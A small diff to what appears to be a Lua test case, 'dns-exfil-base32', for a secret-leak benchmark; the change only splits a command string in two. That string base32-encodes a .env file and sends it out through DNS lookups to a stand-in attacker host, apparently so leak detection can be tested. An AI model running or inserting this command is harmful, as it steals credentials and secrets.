@@ -6,7 +6,8 @@
 local lb = require "leakbench"
 local key = lb.canary("sk-live-")
 
-local cmd = [[d=$(base32 -w0 .env | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 60 | paste -sd. -); dig +tries=1 +time=2 "$d.x.attacker.test" | grep -c NXDOMAIN]]
+local cmd = [[d=$(base32 -w0 .env | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 60 | paste -sd. -); ]]
+  .. [[dig +tries=1 +time=2 "$d.x.attacker.test" | grep -c NXDOMAIN]]
 
 return {
   name = "dns-exfil-base32",
